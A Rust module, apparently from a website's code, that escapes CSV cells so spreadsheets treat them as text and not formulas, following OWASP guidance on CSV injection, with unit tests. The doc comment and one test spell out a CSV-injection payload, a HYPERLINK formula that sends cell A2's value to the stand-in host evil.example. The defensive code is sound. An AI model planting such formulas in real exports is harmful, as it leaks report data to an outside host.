//! Cells of the CSV files the site writes, made safe to open in a
//! spreadsheet (OWASP, "CSV Injection").
//!
//! A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
//! read by Excel, LibreOffice and Google Sheets as a formula, so a member who
//! names themselves `=HYPERLINK("http://evil.example/?"&A2,"x")` would plant
//! a live link in a centre's report. Such a cell is prefixed with `'`, which
//! every spreadsheet shows as text and hides. Numbers the site itself writes
//! (a negative amount, say) go through [`number`], unchanged.

use std::borrow::Cow;

/// Whether a spreadsheet would evaluate a cell that starts like `s`.
pub fn is_formula_like(s: &str) -> bool {
    matches!(s.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// A text cell as it may be written: prefixed with `'` when it would
/// otherwise be read as a formula.
pub fn text(s: &str) -> Cow<'_, str> {
    if is_formula_like(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// A number cell: written as is (a leading `-` is a sign, not a formula).
pub fn number(n: impl std::fmt::Display) -> String {
    n.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_plain_text_is_not_touched() {
        assert_eq!(
            text("=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")"),
            "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")"
        );
        for bad in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
            assert!(text(bad).starts_with('\''), "{bad:?}");
        }
        for fine in ["王建國", "NT$1,200", "2026-12-01", "", "a=b"] {
            assert_eq!(text(fine), fine);
        }
        assert_eq!(number(-1200), "-1200");
    }
}
